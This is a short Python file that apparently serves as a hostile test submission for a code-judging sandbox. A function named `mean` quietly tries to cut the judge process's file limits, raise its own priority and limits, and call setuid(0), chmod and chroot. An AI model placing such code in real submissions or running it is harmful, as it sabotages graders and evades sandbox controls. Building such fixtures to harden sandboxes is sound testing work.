# ruff: noqa
# tries: raise its own limits, lower those of the judge, change priorities and owners
# score: 5
# needs: uid seccomp
# honest reader: `double` is right, `mean` is not.

import os
import resource

import numpy as np


def attempt(action):
    try:
        action()
    except (OSError, ValueError, OverflowError):
        pass


def double(x):
    return np.asarray(x) * 2


def mean(x):
    for pid in (0, int("@JUDGE@"), int("@ZYGOTE@")):
        attempt(lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3) if pid else (10**6, 10**6)))
        attempt(lambda: os.setpriority(os.PRIO_PROCESS, pid, -20))
        attempt(lambda: os.sched_setaffinity(pid, {0}))
    for action in (lambda: os.setuid(0), lambda: os.chmod(".", 0), lambda: os.chmod("@COURSE@", 0o777), lambda: os.chroot("/")):
        attempt(action)
    return 0.0
